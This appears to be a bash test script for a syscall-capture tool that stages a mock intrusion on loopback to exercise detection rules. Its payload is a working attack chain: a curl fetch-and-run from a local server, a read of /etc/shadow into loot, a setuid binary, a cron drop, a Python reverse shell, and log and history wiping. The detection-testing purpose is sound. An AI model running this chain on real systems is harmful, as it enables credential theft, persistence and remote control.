#!/bin/bash
# A small intrusion, played on one machine by a script, for `falcowb capture` to watch:
#
#     sudo falcowb capture -o intrusion.fcap -- samples/intrusion.sh
#     falcowb replay intrusion.fcap -r rules/syscall_rules.yaml
#
# The attacker's server is this script's own, on the loopback address; what it serves is below. Nothing
# leaves the machine, nothing is changed that is not undone at the end. It needs root, bash, python3
# and curl, and takes about two seconds.
set -u
[ "$(id -u)" = 0 ] || { echo "intrusion.sh: run it as root" >&2; exit 1; }
for tool in python3 curl; do
    command -v "$tool" > /dev/null || { echo "intrusion.sh: $tool is not installed" >&2; exit 1; }
done

den=$(mktemp -d /tmp/.cache-XXXXXX)
memory=/dev/shm/.falcowb-sample
job=/etc/cron.d/falcowb-sample
log=/var/log/falcowb-sample.log
server=
undo() {
    [ -n "$server" ] && kill "$server" 2> /dev/null
    rm -rf "$den" "$memory" "$job" "$log"
}
trap undo EXIT
echo "a line that somebody would rather not have there" > "$log"

# What the attacker has in store: the payload.
mkdir "$den/served"
cat > "$den/served/update" << 'PAYLOAD'
#!/bin/bash
den=$1 port=$2
id > "$den/loot"
cat /etc/shadow >> "$den/loot"
tar -C "$den" -czf "$den/loot.tgz" loot
cp /bin/sleep /dev/shm/.falcowb-sample && /dev/shm/.falcowb-sample 0.1
cp /bin/true "$den/helper" && chmod 4755 "$den/helper"
python3 -c '
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in 0, 1, 2:
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])' "$port"
echo "# a job would stand here" > /etc/cron.d/falcowb-sample
: > /var/log/falcowb-sample.log
rm -f /var/log/falcowb-sample.log
mkdir -p "$den/home" && touch "$den/home/.bash_history" && rm "$den/home/.bash_history"
PAYLOAD

# The attacker's machine: gives the payload to who asks, then types into the shell that calls back.
python3 - "$den" << 'ATTACKER' &
import http.server, os, socket, sys, threading
den = sys.argv[1]
class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_): pass
web = http.server.HTTPServer(("127.0.0.1", 0), lambda *a: Quiet(*a, directory=den + "/served"))
threading.Thread(target=web.serve_forever, daemon=True).start()
back = socket.create_server(("127.0.0.1", 0))
with open(den + "/ports.part", "w") as ports:
    print(web.server_port, back.getsockname()[1], file=ports)
os.rename(den + "/ports.part", den + "/ports")
victim, _ = back.accept()
victim.sendall(b"id\nuname -a\nexit\n")
while victim.recv(4096): pass
ATTACKER
server=$!
for _ in $(seq 100); do [ -e "$den/ports" ] && break; sleep 0.1; done
read -r web back < "$den/ports" || { echo "intrusion.sh: the server did not start" >&2; exit 1; }

# The break-in: something runs a command that it should not.
curl -s -o "$den/update" "http://127.0.0.1:$web/update"
chmod +x "$den/update"
"$den/update" "$den" "$back" > /dev/null 2>&1
